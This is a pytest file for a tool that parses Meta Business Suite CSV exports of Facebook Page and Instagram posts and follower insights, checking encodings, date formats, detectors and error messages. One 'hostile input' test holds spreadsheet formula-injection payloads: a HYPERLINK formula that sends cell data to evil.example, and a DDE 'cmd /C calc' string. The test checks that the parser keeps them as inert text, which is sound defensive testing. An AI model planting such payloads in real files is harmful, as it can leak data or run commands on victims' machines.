"""Meta Business Suite's exports of a Facebook Page and an Instagram account, read as Meta writes them.

The files are built by :mod:`tests.platforms.exports.meta` in their real shapes: the posts export
(UTF-8 with a BOM, Meta's whole column set, English or French) and the daily export of the Insights
overview (UTF-16, ``sep=,``, the metric's line, ``"Date","Primary"``).
"""

from __future__ import annotations

import importlib
import re
import sys
import types
from datetime import date, datetime, timedelta
from pathlib import Path
from types import SimpleNamespace

import pytest

from rapport.sources import Page, Window, get_platform
from rapport.sources.contract import COMPONENTS
from rapport.sources.exports import FILE_ENDPOINT, ExportFileError
from rapport.sources.facebook import exports as facebook
from rapport.sources.instagram import exports as instagram
from tests.conftest import PROJECT_ROOT
from tests.platforms.exports.meta import (
    MetaPost,
    daily_csv,
    facebook_posts_csv,
    instagram_posts_csv,
    posts_file_name,
)

RUN_DATE = date(2026, 12, 2)
NOVEMBER = posts_file_name(date(2026, 11, 1), date(2026, 11, 30))


def fb_post(
    post_id: str = "104857392018273_1", published: datetime | None = datetime(2026, 11, 30, 14, 5), **fields
):
    return MetaPost(post_id, published, **fields)


def read_fb(data: bytes, name: str = NOVEMBER):
    return facebook.read_posts_export(name, data, RUN_DATE)


def read_ig(data: bytes, name: str = NOVEMBER):
    return instagram.read_posts_export(name, data, RUN_DATE)


# --------------------------------------------------------------------------- the posts export


def test_a_facebook_posts_export_in_utf8_with_a_bom_gives_each_post_its_counts_and_the_page():
    data = facebook_posts_csv(
        [
            fb_post(
                text="Our new opening hours", description="From Monday", likes=1234, comments=5, shares=2
            ),
            fb_post("104857392018273_2", datetime(2026, 11, 2, 8, 0), text="Story time", post_type="Links"),
        ]
    )
    assert data.startswith(b"\xef\xbb\xbfPost ID,")  # the BOM sits before the first header
    rows = read_fb(data)
    assert rows.format == "facebook_posts"
    first, second = rows.posts
    assert first.post_id == "104857392018273_1"
    assert first.created_at == datetime(2026, 11, 30, 14, 5)
    assert first.line == 2
    assert (first.likes, first.comments, first.shares) == (1234, 5, 2)
    assert first.text == "Our new opening hours\nFrom Monday"
    assert first.url == "https://www.facebook.com/104857392018273/posts/104857392018273_1"
    assert first.post_type == "original"
    assert second.created_at == datetime(2026, 11, 2, 8, 0)
    assert rows.identities == {"id": "104857392018273", "name": "City Library"}
    assert rows.followers == []


def test_publish_time_is_read_as_utc_month_first_in_an_english_export():
    # 11/10/2026 is the 10th of November in Meta's US format, whatever the server's zone.
    rows = read_fb(facebook_posts_csv([fb_post(published=datetime(2026, 11, 10, 23, 30))]))
    assert rows.posts[0].created_at == datetime(2026, 11, 10, 23, 30)


def test_a_french_export_reads_french_headers_numbers_and_day_first_dates():
    data = facebook_posts_csv(
        [
            fb_post(
                published=datetime(2026, 11, 3, 9, 15), text="Nouveaux horaires", likes=12345, comments=1200
            )
        ],
        language="fr",
    )
    text = data.decode("utf-8-sig")
    assert text.startswith("Identifiant de la publication,Identifiant de la Page,Nom de la Page,Titre")
    assert "03/11/2026 09:15" in text and "12\u202f345" in text
    [post] = read_fb(data).posts
    assert post.created_at == datetime(2026, 11, 3, 9, 15)  # the 3rd of November, not the 11th of March
    assert (post.likes, post.comments) == (12345, 1200)
    assert post.text == "Nouveaux horaires"


def test_a_day_above_12_tells_the_order_of_the_dates_whatever_the_headers_language():
    written = {"Publish time": "11/03/2026 10:00"}
    later = {"Publish time": "25/11/2026 10:00"}
    data = facebook_posts_csv([fb_post("a", extra=written), fb_post("b", extra=later)])
    assert [post.created_at for post in read_fb(data).posts] == [
        datetime(2026, 3, 11, 10),
        datetime(2026, 11, 25, 10),
    ]
    french = facebook_posts_csv(
        [
            fb_post("a", extra={"Publish time": "11/03/2026 10:00"}),
            fb_post("b", extra={"Publish time": "11/25/2026 10:00"}),
        ],
        language="fr",
    )
    assert [post.created_at for post in read_fb(french).posts] == [
        datetime(2026, 11, 3, 10),
        datetime(2026, 11, 25, 10),
    ]


def test_the_date_range_meta_writes_in_the_file_name_is_the_days_the_file_covers_even_without_posts():
    rows = read_fb(facebook_posts_csv([fb_post(published=datetime(2026, 11, 12, 10))]))
    assert (rows.first_day, rows.last_day) == (date(2026, 11, 1), date(2026, 11, 30))
    quiet = read_fb(facebook_posts_csv([]))  # a month without posts: a real silence, not a gap
    assert (quiet.first_day, quiet.last_day, quiet.posts) == (date(2026, 11, 1), date(2026, 11, 30), [])
    renamed = read_fb(facebook_posts_csv([fb_post(published=datetime(2026, 11, 12, 10))]), name="posts.csv")
    assert (renamed.first_day, renamed.last_day) == (date(2026, 11, 12), date(2026, 11, 12))


def test_a_file_without_posts_nor_a_date_range_in_its_name_is_refused():
    with pytest.raises(ExportFileError) as error:
        read_fb(facebook_posts_csv([]), name="posts.csv")
    assert (
        str(error.value)
        == "posts.csv: no posts, and no date range in the file's name to say which days it covers"
    )


def test_a_post_without_publish_time_is_refused_naming_the_file_and_line():
    data = facebook_posts_csv([fb_post("a"), fb_post("b", published=None)])
    with pytest.raises(ExportFileError) as error:
        read_fb(data, name="posts.csv")
    assert str(error.value) == "posts.csv, line 3: post 'b' has no 'Publish time'"
    assert error.value.line == 3


def test_a_bad_count_is_refused_naming_the_line_and_column():
    data = facebook_posts_csv([fb_post(extra={"Reactions": "many"})])
    with pytest.raises(
        ExportFileError, match=r"^posts.csv, line 2: column 'Reactions': 'many' is not a count$"
    ):
        read_fb(data, name="posts.csv")


def test_a_missing_column_is_refused_naming_it():
    data = facebook_posts_csv([fb_post()], drop=["Publish time"])
    with pytest.raises(ExportFileError) as error:
        read_fb(data, name="posts.csv")
    assert str(error.value) == (
        "posts.csv, line 1: missing column(s) 'Publish time': not a file of this format, or columns removed"
    )


def test_counts_meta_leaves_empty_are_unknown_not_zero_and_a_column_left_out_too():
    rows = read_fb(facebook_posts_csv([fb_post(shares=None)], drop=["Comments"]))
    assert (rows.posts[0].shares, rows.posts[0].comments) == (None, None)


def test_a_post_without_an_id_is_known_by_its_permalink():
    [post] = read_fb(
        facebook_posts_csv([fb_post(post_id=None, permalink="https://www.facebook.com/x/posts/9")])
    ).posts
    assert post.post_id == "https://www.facebook.com/x/posts/9"


def test_a_post_listed_twice_is_refused_naming_both_lines():
    with pytest.raises(ExportFileError, match=r"^posts.csv, line 3: post 'a' listed twice \(line 2 too\)"):
        read_fb(facebook_posts_csv([fb_post("a"), fb_post("a")]), name="posts.csv")


def test_a_file_of_another_page_says_whose_it_is():
    rows = read_fb(facebook_posts_csv([fb_post()], page_id="998877665544", page_name="Town Museum"))
    assert rows.identities == {"id": "998877665544", "name": "Town Museum"}


def test_a_file_with_rows_of_two_pages_is_refused_naming_the_line():
    data = facebook_posts_csv([fb_post("a"), fb_post("b"), fb_post("c", owner_id="998877665544")])
    with pytest.raises(ExportFileError) as error:
        read_fb(data, name="posts.csv")
    assert str(error.value) == (
        "posts.csv, line 4: rows of two Pages: '104857392018273' (line 2) and '998877665544': export one Page a file"
    )


def test_a_photo_or_video_is_one_media_and_other_post_types_are_unknown():
    data = facebook_posts_csv(
        [fb_post("a", post_type="Photos"), fb_post("b", post_type="Reels"), fb_post("c", post_type="Links")]
    )
    assert [post.media_count for post in read_fb(data).posts] == [1, 1, None]


def test_an_instagram_posts_export_gives_likes_the_caption_its_mentions_and_the_account():
    data = instagram_posts_csv(
        [
            MetaPost(
                "18012345678901234",
                datetime(2026, 11, 20, 17, 45),
                text="Reading club with @townmuseum!",
                post_type="IG reel",
                likes=321,
                comments=4,
                shares=7,
            ),
            MetaPost(
                "18012345678901235", datetime(2026, 11, 21, 9, 0), text="Our shelves", post_type="IG carousel"
            ),
        ]
    )
    rows = read_ig(data)
    first, second = rows.posts
    assert rows.format == "instagram_posts"
    assert (first.likes, first.comments, first.shares) == (321, 4, 7)
    assert first.text == "Reading club with @townmuseum!"
    assert (first.mentions, second.mentions) == (1, 0)
    assert (first.media_count, second.media_count) == (1, None)
    assert first.url == "https://www.instagram.com/p/18012345678901234/"
    assert rows.identities == {"id": "17841400000000001", "handle": "citylibrary", "name": "City Library"}


def test_a_french_instagram_export_reads_its_headers():
    data = instagram_posts_csv(
        [MetaPost("1801", datetime(2026, 11, 4, 18, 0), text="Bonjour", likes=2500)], language="fr"
    )
    [post] = read_ig(data).posts
    assert (post.created_at, post.likes, post.text) == (datetime(2026, 11, 4, 18, 0), 2500, "Bonjour")


def test_a_facebook_post_tagging_a_page_counts_no_mention_its_name_is_no_handle():
    [post] = read_fb(facebook_posts_csv([fb_post(text="With Town Museum and @someone")])).posts
    assert post.mentions is None


# --------------------------------------------------------------------------- the daily export


def test_a_utf16_daily_export_with_a_sep_line_gives_the_followers_of_each_day_when_it_holds_a_total():
    data = daily_csv("Instagram followers", [(date(2026, 11, 1), 1200), (date(2026, 11, 2), 1_203)])
    assert data.startswith(b"\xff\xfes\x00e\x00p\x00=\x00,\x00")
    rows = instagram.read_account_export("Followers.csv", data, RUN_DATE)
    assert rows.format == "instagram_account_insights"
    assert rows.followers == [(date(2026, 11, 1), 1200), (date(2026, 11, 2), 1203)]
    assert (rows.first_day, rows.last_day, rows.posts, rows.notes) == (
        date(2026, 11, 1),
        date(2026, 11, 2),
        [],
        [],
    )


def test_a_follows_file_counts_new_follows_a_day_so_it_gives_no_followers_and_says_why():
    data = daily_csv(
        "Facebook follows", [(date(2025, 8, 1), 20), (date(2025, 8, 2), 3), (date(2025, 8, 3), None)]
    )
    rows = facebook.read_page_export("Follows (1).csv", data, RUN_DATE)
    assert rows.format == "facebook_page_insights"
    assert rows.followers == []
    assert (rows.first_day, rows.last_day) == (date(2025, 8, 1), date(2025, 8, 3))
    assert rows.notes == [
        "'Facebook follows' counts new follows a day, not a total of followers: no followers are taken from it"
    ]


def test_a_daily_export_naming_its_metric_in_the_header_is_read_too():
    data = b"\xff\xfe" + '"Date","Facebook followers"\r\n"2026-11-01T00:00:00","1 204"'.encode("utf-16-le")
    rows = facebook.read_page_export("followers.csv", data, RUN_DATE)
    assert rows.followers == [(date(2026, 11, 1), 1204)]


def test_a_daily_export_of_another_metric_is_refused_saying_which_files_are_read():
    data = daily_csv("Facebook visits", [(date(2025, 8, 1), 1067)])
    with pytest.raises(ExportFileError) as error:
        facebook.read_page_export("Visits (1).csv", data, RUN_DATE)
    assert str(error.value) == (
        "Visits (1).csv: a daily export of 'Facebook visits': Rapport imports only the followers or follows "
        "file of the Insights overview"
    )


def test_a_daily_export_of_the_other_platform_is_refused():
    with pytest.raises(
        ExportFileError,
        match=r"^Follows.csv: a daily export of 'Instagram follows': another platform's file$",
    ):
        facebook.read_page_export(
            "Follows.csv", daily_csv("Instagram follows", [(date(2025, 8, 1), 2)]), RUN_DATE
        )


def test_a_bad_day_or_count_in_a_daily_export_is_refused_naming_the_line():
    data = daily_csv("Instagram followers", [(date(2026, 11, 1), 1200)]).replace(
        "1200".encode("utf-16-le"), "12k".encode("utf-16-le")
    )
    with pytest.raises(
        ExportFileError, match=r"^f.csv, line 4: column 'Instagram followers': '12k' is not a count$"
    ):
        instagram.read_account_export("f.csv", data, RUN_DATE)
    bad_day = daily_csv("Instagram followers", [(date(2026, 11, 1), 1200)]).replace(
        "2026-11-01".encode("utf-16-le"), "2026-13-01".encode("utf-16-le")
    )
    with pytest.raises(
        ExportFileError, match=r"^f.csv, line 4: column 'Date': '2026-13-01T00:00:00' is not a date$"
    ):
        instagram.read_account_export("f.csv", bad_day, RUN_DATE)


def test_a_daily_export_without_days_is_refused():
    with pytest.raises(ExportFileError, match=r"^f.csv: no days listed$"):
        instagram.read_account_export("f.csv", daily_csv("Instagram followers", []), RUN_DATE)


# --------------------------------------------------------------------------- detectors

FILES = {
    "facebook posts": facebook_posts_csv([fb_post()]),
    "facebook posts, French": facebook_posts_csv([fb_post()], language="fr"),
    "instagram posts": instagram_posts_csv([MetaPost("1801", datetime(2026, 11, 4, 18))]),
    "instagram posts, French": instagram_posts_csv(
        [MetaPost("1801", datetime(2026, 11, 4, 18))], language="fr"
    ),
    "facebook follows": daily_csv("Facebook follows", [(date(2025, 8, 1), 20)]),
    "instagram follows": daily_csv("Instagram follows", [(date(2025, 8, 1), 2)]),
    "x analytics": b"Tweet id,Tweet permalink,Tweet text,time,impressions,engagements\r\n1,https://x.com/a/status/1,hi,2026-11-30 14:05 +0000,10,1\r\n",
    "two columns of dates without Meta's sep line": b"Date,Followers\r\n2026-11-01,1200\r\n",
    "random bytes": bytes(range(256)) * 8,
    "a workbook": b"PK\x03\x04" + b"\x00" * 64,
    "empty": b"",
}
DETECTED = {
    "facebook posts": {"facebook posts", "facebook posts, French"},
    "instagram posts": {"instagram posts", "instagram posts, French"},
    "facebook page": {"facebook follows"},
    "instagram account": {"instagram follows"},
}
DETECTORS = {
    "facebook posts": facebook.is_posts_export,
    "instagram posts": instagram.is_posts_export,
    "facebook page": facebook.is_page_export,
    "instagram account": instagram.is_account_export,
}


@pytest.mark.parametrize("detector", DETECTORS)
def test_each_detector_says_yes_to_its_files_only_and_no_to_the_other_platforms_meta_files(detector: str):
    said_yes = {name for name, data in FILES.items() if DETECTORS[detector]("file.csv", data)}
    assert said_yes == DETECTED[detector]


def test_a_detector_tells_a_large_file_from_its_head_and_the_reader_then_refuses_a_broken_end():
    days = [(date(2020, 1, 1) + timedelta(days=index), index) for index in range(3000)]
    cut = daily_csv("Facebook follows", days)[:-1]  # an odd number of UTF-16 bytes: its end is broken
    assert len(cut) > 100_000
    assert facebook.is_page_export("Follows.csv", cut)
    with pytest.raises(ExportFileError, match=r"^Follows.csv: not valid UTF-16 text at byte \d+$"):
        facebook.read_page_export("Follows.csv", cut, RUN_DATE)


# --------------------------------------------------------------------------- hostile input


def test_a_formula_in_a_cell_stays_text():
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    [post] = read_fb(
        facebook_posts_csv([fb_post(text=formula, extra={"Description": "+cmd|' /C calc'!A0"})])
    ).posts
    assert post.text == formula + "\n+cmd|' /C calc'!A0"


def test_a_huge_cell_is_refused_naming_the_line():
    data = facebook_posts_csv([fb_post("a"), fb_post("b", text="x" * 2_000_000)])
    with pytest.raises(
        ExportFileError, match=r"^posts.csv, line 3: not readable as CSV: field larger than field limit"
    ):
        read_fb(data, name="posts.csv")


def test_binary_junk_is_refused_in_one_line():
    for junk in (b"\x00\x01\x02\x03" * 1000, b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))):
        with pytest.raises(ExportFileError) as error:
            read_fb(junk, name="junk.csv")
        assert str(error.value) == "junk.csv: not a text file, a workbook or a zip: binary content"


def test_html_disguised_as_a_csv_is_refused_as_missing_its_columns():
    with pytest.raises(
        ExportFileError,
        match=r"^posts.csv(, line 1)?: missing column\(s\) 'Post ID', 'Publish time', 'Page ID'",
    ):
        read_fb(b"<html><body><table><tr><td>Post ID</td></tr></table></body></html>", name="posts.csv")


# --------------------------------------------------------------------------- the contract and the hand-over


@pytest.mark.parametrize("platform", ["facebook", "instagram"])
def test_each_meta_format_feeds_says_one_row_per_component_and_its_reader_and_detector_resolve(platform: str):
    formats = get_platform(platform).exports
    assert [export.name for export in formats] == [
        f"{platform}_posts",
        f"{platform}_{'page' if platform == 'facebook' else 'account'}_insights",
    ]
    for export in formats:
        assert [feed.component for feed in export.feeds] == list(COMPONENTS)
        for target in (export.reader, export.detector):
            module, _, function = target.partition(":")
            assert callable(getattr(importlib.import_module(module), function))
        assert not export.fed("answered_question_share") and not export.fed("accessibility_share")


@pytest.mark.parametrize("platform", ["facebook", "instagram"])
def test_a_meta_account_with_an_inbox_is_read_from_its_files_and_its_file_pages_by_the_export_mapping(
    platform: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
):
    """The inbox and the mapping are the export source's (rapport.sources.exports.inbox, .records):
    stand-ins record what they are handed."""
    handed: list[tuple[str, object]] = []
    inbox = types.ModuleType("rapport.sources.exports.inbox")
    inbox.extract = lambda account, window: handed.append(("extract", account)) or iter(())  # type: ignore[attr-defined]
    inbox.extract_with_stats = lambda account, window, *, ledger=None: (  # type: ignore[attr-defined]
        handed.append(("extract_with_stats", account)) or (iter(()), None)
    )
    records = types.ModuleType("rapport.sources.exports.records")
    records.normalize_files = lambda pages, account, observed_at: handed.append(("normalize", pages)) or {}  # type: ignore[attr-defined]
    monkeypatch.setitem(sys.modules, "rapport.sources.exports.inbox", inbox)
    monkeypatch.setitem(sys.modules, "rapport.sources.exports.records", records)
    source = importlib.import_module(f"rapport.sources.{platform}")
    account = SimpleNamespace(platform=platform, account_id=f"{platform}:citylibrary", inbox=tmp_path)
    window = Window(since=datetime(2026, 11, 1), until=datetime(2026, 12, 1))
    assert list(source.extract(account, window)) == []
    source.extract_with_stats(account, window)
    files = [Page(endpoint=FILE_ENDPOINT, body=b"x", params={"file": "posts.csv"})]
    assert source.normalize(files, account, datetime(2026, 12, 2)) == {}
    assert handed == [("extract", account), ("extract_with_stats", account), ("normalize", files)]


def test_a_posts_export_saved_again_without_its_bom_is_read_too():
    [post] = read_fb(facebook_posts_csv([fb_post(likes=7)], bom=False)).posts
    assert post.likes == 7


def feeds_in_readme(platform: str) -> dict[str, dict[str, str]]:
    """The README's tables under "Read from Meta Business Suite exports": component -> fed, by format."""
    text = (PROJECT_ROOT / "plugins" / "rapport" / "sources" / platform / "README.md").read_text()
    section = text.split("## Read from Meta Business Suite exports", 1)[1]
    tables: dict[str, dict[str, str]] = {}
    current = None
    for line in section.splitlines():
        if heading := re.match(r"#### `(\w+)`", line):
            current = tables.setdefault(heading[1], {})
        elif current is not None and line.startswith("| ") and not line.startswith("| component"):
            component, fed, _ = (cell.strip() for cell in line.strip("|").split("|", 2))
            current[component] = fed
    return tables


@pytest.mark.parametrize("platform", ["facebook", "instagram"])
def test_the_readme_has_one_row_per_component_for_each_export_saying_what_the_contract_says(platform: str):
    expected = {
        export.name: {feed.component: "yes" if feed.fed else "no" for feed in export.feeds}
        for export in get_platform(platform).exports
    }
    assert feeds_in_readme(platform) == expected


SAMPLES = PROJECT_ROOT / "tests" / "fixtures" / "exports"


@pytest.mark.parametrize(
    ("sample", "detector", "posts", "followers"),
    [
        ("facebook/Nov-01-2026_Nov-30-2026_1039829308656930.csv", "facebook posts", 2, 0),
        ("facebook/Follows.csv", "facebook page", 0, 0),
        ("instagram/Nov-01-2026_Nov-30-2026_1039829308656930.csv", "instagram posts", 2, 0),
        ("instagram/Followers.csv", "instagram account", 0, 3),
    ],
)
def test_each_sample_file_is_told_by_its_detector_alone_and_read(
    sample: str, detector: str, posts: int, followers: int
):
    """The samples under tests/fixtures/exports, as Meta writes them (a French Facebook posts export)."""
    data = (SAMPLES / sample).read_bytes()
    name = sample.rsplit("/", 1)[1]
    assert [key for key, detects in DETECTORS.items() if detects(name, data)] == [detector]
    reader = {
        "facebook posts": facebook.read_posts_export,
        "facebook page": facebook.read_page_export,
        "instagram posts": instagram.read_posts_export,
        "instagram account": instagram.read_account_export,
    }[detector]
    rows = reader(name, data, RUN_DATE)
    assert (len(rows.posts), len(rows.followers)) == (posts, followers)
